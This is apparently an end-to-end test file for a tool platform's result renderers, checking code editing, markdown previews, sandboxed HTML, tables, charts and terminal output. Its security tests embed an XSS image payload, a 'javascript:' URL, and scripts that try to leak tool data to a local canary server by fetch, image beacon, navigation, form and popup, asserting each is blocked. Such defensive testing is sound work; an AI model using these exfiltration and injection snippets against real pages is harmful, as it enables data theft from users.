// Every renderer, in the tester and on the page of a call.
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { install, simpleFiles } from '../lib/package.mjs';
import { Workspace } from '../lib/workspace.mjs';

const shown = (page) => page.getByRole('tabpanel', { name: 'Rendered' });

/** Prints 10,000 rows; the first three are cities. */
const ROWS = 'import json\nrows = [{"city": "Berlin", "people": 3700000}, {"city": "Paris", "people": 2100000}, {"city": "Rome", "people": 2800000}]\nrows += [{"city": f"Town {i}", "people": i} for i in range(9997)]\n';

const create = (world, name, renderer, config, implementation) =>
  world.haft.api('POST', '/tools', { name, description: 'Shows its result', params: [], implementation, renderers: [{ renderer, priority: 0, config }] });
const prints = (value) => ({ type: 'exec', argv: ['echo', JSON.stringify(value)], output: 'json' });
const python = (body) => ({ type: 'script', runtime: 'python', body });

/** Runs a tool in the tester, and shows its result. */
async function rendered(world, name, renderer, config, implementation = prints({})) {
  await create(world, name, renderer, config, implementation);
  const page = await world.open(`/tools/user-created:${name}@1.0.0?tab=try`);
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await page.getByRole('main').getByText('Success', { exact: true }).first().waitFor();
  return { page, panel: shown(page) };
}

/** Calls a tool in a workspace of its own, and opens the call. */
async function called(world, name, renderer, config, implementation = prints({})) {
  const workspace = await Workspace.create(world.haft, name);
  await create(world, name, renderer, config, implementation);
  const { call_id: call } = await world.haft.api('POST', `/tools/${name}/invoke`, { args: {}, workspace: name });
  const page = await world.open(`/calls?open=${call}`);
  return { page, workspace, panel: shown(page) };
}

export const tests = {
  async 'code: shown with its language, edited, saved back, and a conflict is not overwritten'(world) {
    const { page, workspace, panel } = await called(world, 'show-code', 'code', { file: 'src/app/main.py', language: 'auto', editable: true });
    const editor = panel.getByRole('textbox', { name: 'src/app/main.py' });
    await editor.getByText('def').first().waitFor();
    await page.waitForFunction(() => document.querySelectorAll('.cm-line span').length > 2);
    await editor.click();
    await page.keyboard.press('Control+Home');
    await page.keyboard.insertText('# edited\n');
    await panel.getByText('Not saved').waitFor();
    await page.keyboard.press('Control+s');
    await page.getByText('Saved src/app/main.py').waitFor();
    assert.match(await workspace.text('src/app/main.py'), /^# edited\ndef run/);
    await panel.getByText('Not saved').waitFor({ state: 'detached' });
    // Somebody else changes the file during the next edit; its save says so.
    await editor.click();
    await page.keyboard.press('Control+Home');
    await page.keyboard.insertText('# again\n');
    await panel.getByText('Not saved').waitFor();
    await workspace.put('src/app/main.py', 'changed by a tool\n');
    await panel.getByRole('button', { name: 'Save', exact: true }).click();
    await panel.getByText('The file has changed in the meantime').waitFor();
    assert.equal(await workspace.text('src/app/main.py'), 'changed by a tool\n');
    await panel.getByRole('button', { name: 'Discard my edit' }).click();
    await editor.getByText('changed by a tool').waitFor();
    await panel.getByRole('link', { name: 'Open in workspace' }).click();
    await page.waitForURL(/\/workspaces\/show-code\?file=/);
    await page.getByRole('heading', { name: 'src/app/main.py' }).waitFor();
  },

  async 'document: read, edited beside its preview, saved; HTML in it stays text'(world) {
    const { page, workspace, panel } = await called(world, 'show-document', 'document', { file: 'README.md', editable: true });
    await panel.getByRole('heading', { name: 'Demo' }).waitFor();
    await panel.getByText('Edit', { exact: true }).click();
    const editor = panel.getByRole('textbox', { name: 'README.md' });
    await editor.click();
    await page.keyboard.press('Control+End');
    await page.keyboard.insertText('\n## Next\n\n<img src=x onerror="window.hacked = 1"> **bold**\n');
    await panel.getByRole('heading', { name: 'Next' }).waitFor();
    await panel.locator('strong', { hasText: 'bold' }).waitFor();
    assert.equal(await panel.locator('img').count(), 0);
    assert.equal(await page.evaluate(() => window.hacked), undefined);
    await panel.getByRole('button', { name: 'Save', exact: true }).click();
    await page.getByText('Saved README.md').waitFor();
    assert.match(await workspace.text('README.md'), /## Next/);
  },

  async 'html: runs in a frame of its own that cannot reach the page'(world) {
    const script = 'let reach = "no"; try { void parent.document.body; reach = "yes"; } catch {} document.querySelector("#out").textContent = "origin " + window.origin + ", parent " + reach;';
    const files = simpleFiles({ id: 'pages', name: 'Pages', tools: [{ id: 'show_page', more: '    renderer: {type: html, artifact: artifacts/page.html, data: $return}\n' }] });
    await install(world.haft, { ...files, 'artifacts/page.html': `<!doctype html><body><p id="out">waiting</p><script>${script}</script>` });
    const page = await world.open('/tools/pages:show_page@1.0.0?tab=try');
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    const frame = page.locator('iframe');
    await frame.contentFrame().getByText('origin null, parent no').waitFor();
    assert.equal(await frame.getAttribute('sandbox'), 'allow-scripts');
  },

  async 'html: data does not leave the page, not by navigation either'(world) {
    const received = [];
    const canary = createServer((request, response) => {
      received.push(request.url);
      response.end('received');
    });
    await new Promise((listening) => canary.listen(0, '127.0.0.1', listening));
    try {
      const target = `http://127.0.0.1:${canary.address().port}`;
      // One page each: a navigation that is blocked ends the page. The text can be seen before the page tries to leave.
      const ways = {
        link: `const link = document.createElement('a'); link.href = '${target}/link?' + data; document.body.append(link); link.click();`,
        refresh: `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=${target}/refresh?' + data; document.head.append(meta);`,
        location: `window.location = '${target}/location?' + data;`,
        form: `const form = document.createElement('form'); form.action = '${target}/form'; form.innerHTML = '<input name="data">'; document.body.append(form); form.submit();`,
        popup: `window.open('${target}/popup?' + data);`,
      };
      for (const [way, leave] of Object.entries(ways)) {
        const script = `
          const data = encodeURIComponent(JSON.stringify(window.__TOOL_DATA__));
          fetch('${target}/fetch?' + data).catch(() => {});
          new Image().src = '${target}/image?' + data;
          document.querySelector('#out').textContent = 'tries ${way}';
          setTimeout(() => { ${leave} }, 2000);`;
        const files = simpleFiles({ id: `leaks-${way}`, name: 'Leaks', tools: [{ id: 'leak', more: '    renderer: {type: html, artifact: artifacts/page.html, data: $return}\n' }] });
        await install(world.haft, { ...files, 'artifacts/page.html': `<!doctype html><head></head><body><p id="out">waiting</p><script>${script}</script>` });
        const page = await world.open(`/tools/leaks-${way}:leak@1.0.0?tab=try`);
        await page.getByRole('button', { name: 'Run', exact: true }).click();
        await page.locator('iframe').contentFrame().getByText(`tries ${way}`).waitFor();
        await page.waitForTimeout(3000);
        assert.deepEqual(received, [], way);
      }
      // What the policy blocked is reported, which is no defect of the page.
      const blocked = (problem) => problem.includes(target) || /sandboxed|Fetch API cannot load|(img|connect|frame)-src blocked/.test(problem);
      assert.ok(world.browser.problems.some(blocked));
      world.browser.problems = world.browser.problems.filter((problem) => !blocked(problem));
      // The canary hears what may reach it.
      await fetch(`${target}/heard`);
      assert.deepEqual(received, ['/heard']);
    } finally {
      canary.close();
    }
  },

  async 'frame: only http and https'(world) {
    const { panel } = await rendered(world, 'show-frame', 'frame', { url: '$return.url' }, prints({ url: 'javascript:alert(1)' }));
    await panel.getByText('Only http and https addresses').waitFor();
    assert.equal(await panel.locator('iframe').count(), 0);
  },

  async 'table: 10,000 rows are sorted, filtered and exported'(world) {
    const columns = [{ key: 'city', label: 'City' }, { key: 'people', label: 'People' }];
    const { page, panel } = await rendered(world, 'show-table', 'table', { rows: '$return', columns }, python(`${ROWS}print(json.dumps(rows))`));
    const table = panel.getByRole('table');
    const first = () => table.getByRole('row').nth(1).innerText();
    await table.getByRole('button', { name: 'People' }).click();
    assert.match(await first(), /Town 0/);
    await table.getByRole('button', { name: 'People' }).click();
    assert.match(await first(), /Berlin/);
    assert.equal(await table.getByRole('columnheader', { name: 'People' }).getAttribute('aria-sort'), 'descending');
    assert.ok(await table.getByRole('row').count() < 100);
    await panel.getByRole('textbox', { name: 'Filter rows' }).fill('town 99');
    await panel.getByText('277 of 10,000 rows').waitFor();
    const [file] = await Promise.all([page.waitForEvent('download'), panel.getByRole('button', { name: 'CSV' }).click()]);
    const lines = (await readFile(await file.path(), 'utf8')).split('\r\n');
    assert.equal(lines[0], 'City,People');
    assert.equal(lines.length, 278);
  },

  async 'chart: bars from a file, and the same figures as a table'(world) {
    const { panel } = await called(world, 'show-chart', 'chart', { file: 'data/sales.csv', type: 'bar', x: 'month', y: ['sales', 'costs'], title: 'First quarter' });
    await panel.getByRole('img', { name: /First quarter/ }).waitFor();
    assert.equal(await panel.locator('svg[role=img] rect').count(), 6);
    await panel.getByRole('button', { name: 'Show as table' }).click();
    await panel.getByRole('row').filter({ hasText: 'Feb' }).getByText('135').waitFor();
  },

  async 'chart: a line and a pie'(world) {
    const line = await rendered(world, 'show-line', 'chart', { type: 'line', rows: '$return' }, prints([{ t: 'a', v: 1 }, { t: 'b', v: 5 }, { t: 'c', v: 3 }]));
    await line.panel.locator('svg[role=img] path').waitFor();
    const pie = await rendered(world, 'show-pie', 'chart', { type: 'pie', rows: '$return' }, prints([{ k: 'x', v: 3 }, { k: 'y', v: 1 }]));
    await pie.panel.getByRole('listitem').filter({ hasText: '75%' }).waitFor();
  },

  async 'image, differences, terminal, JSON'(world) {
    const image = await called(world, 'show-image', 'image', { file: 'assets/logo.svg', alt: 'The logo' });
    const picture = image.panel.getByRole('img', { name: 'The logo' });
    await picture.waitFor();
    await image.page.waitForFunction(() => [...document.querySelectorAll('img')].some((element) => element.alt === 'The logo' && element.naturalWidth > 0));
    const patch = await rendered(world, 'show-diff', 'diff', { patch: '--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n same\n-old line\n+new line\n' });
    await patch.panel.getByText('new line').waitFor();
    const terminal = await rendered(world, 'show-terminal', 'terminal', { content: '\u001B[32mpassed\u001B[0m <b>3 tests</b>\n10%\r100%\n' });
    await terminal.panel.getByText('<b>3 tests</b>').waitFor();
    assert.equal(await terminal.panel.getByText('10%', { exact: true }).count(), 0);
    const color = await terminal.panel.getByText('passed', { exact: true }).evaluate((element) => getComputedStyle(element).color);
    const plain = await terminal.panel.getByText('100%', { exact: true }).evaluate((element) => getComputedStyle(element).color);
    assert.notEqual(color, plain);
    const tree = await rendered(world, 'show-json', 'json', { value: '$return' }, python(`${ROWS}print(json.dumps({"big": rows}))`));
    await tree.panel.getByText('10,000 items').waitFor();
    assert.ok(await tree.page.evaluate(() => document.querySelectorAll('*').length) < 5_000);
  },

  async 'a plan with an error says why, and the result is there'(world) {
    const { panel } = await rendered(world, 'show-failed', 'code', { file: '$args.path' }, prints({ answer: 42 }));
    await panel.getByRole('alert').getByText(/args\.path/).waitFor();
    await panel.getByText('42').waitFor();
  },

  async 'the page of the call shows what it changed'(world) {
    const body = 'import json, os\nos.remove("README.md")\nopen("data/sales.csv", "a").write("Apr,160,91\\n")\nprint(json.dumps([{"city": "Berlin"}]))';
    const { page } = await called(world, 'show-again', 'table', { rows: '$return' }, python(body));
    await page.getByRole('complementary').getByRole('table').getByText('Berlin').waitFor();
    await page.getByRole('tab', { name: 'Raw' }).click();
    await page.getByRole('tabpanel', { name: 'Raw' }).waitFor();
    await page.getByText('Changed files: 2').waitFor();
    await page.getByRole('link', { name: 'data/sales.csv' }).click();
    await page.waitForURL(/\/workspaces\/show-again\?file=/);
  },
};
